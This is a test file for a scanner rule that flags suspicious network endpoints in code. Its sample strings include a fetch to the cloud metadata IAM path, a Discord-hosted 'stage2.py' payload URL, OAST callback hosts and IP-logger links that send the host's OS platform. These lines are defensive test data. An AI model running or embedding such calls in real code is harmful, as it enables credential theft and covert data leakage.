import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('NET-001 suspicious-endpoint', () => {
  it('finds OAST hosts after folding', async () => {
    const f = await ruleFindings('NET-001', "const h = 'abc' + '.oast' + '.fun';");
    expect(f[0]?.evidence?.endpointKind).toBe('oast');
  });
  it('finds the cloud metadata address', async () => {
    const f = await ruleFindings('NET-001', "fetch('http://169.254.169.254/latest/meta-data/iam/')");
    expect(f[0]?.category).toBe('credential-theft');
  });
  it('treats Discord CDN attachments as a file-drop, but not the CDN host itself', async () => {
    const f = await ruleFindings(
      'NET-001',
      "fetch('https://cdn.discordapp.com/attachments/1033739850643406918/1034240047458824282/stage2.py')",
    );
    expect(f[0]?.evidence?.endpointKind).toBe('file-drop');
    expect(
      await ruleFindings('NET-001', "const avatar = 'https://cdn.discordapp.com/avatars/' + id + '.png';"),
    ).toHaveLength(0);
  });
  it('ignores ordinary hosts', async () => {
    expect(await ruleFindings('NET-001', "fetch('https://api.example.com/v1')")).toHaveLength(0);
  });
});

describe('NET-001 IP loggers', () => {
  it('an IP-logger link is an endpoint of its own kind, also on short domains', async () => {
    for (const url of ['https://grabify.link/E09EIF', 'https://iplogger.org/1aBcD', 'https://2no.co/2x3Yz']) {
      const f = await ruleFindings(
        'NET-001',
        `fetch('${url}', { headers: { 'User-Agent': require('os').platform() } });`,
      );
      expect(f[0]?.evidence?.endpointKind, url).toBe('ip-logger');
    }
  });
  it('hosts that merely end in the same letters are not', async () => {
    expect(await ruleFindings('NET-001', "fetch('https://notgrabify.linkedin.example/x');")).toHaveLength(0);
    expect(await ruleFindings('NET-001', "fetch('https://myiplogger.org.example.com/');")).toHaveLength(0);
  });
});
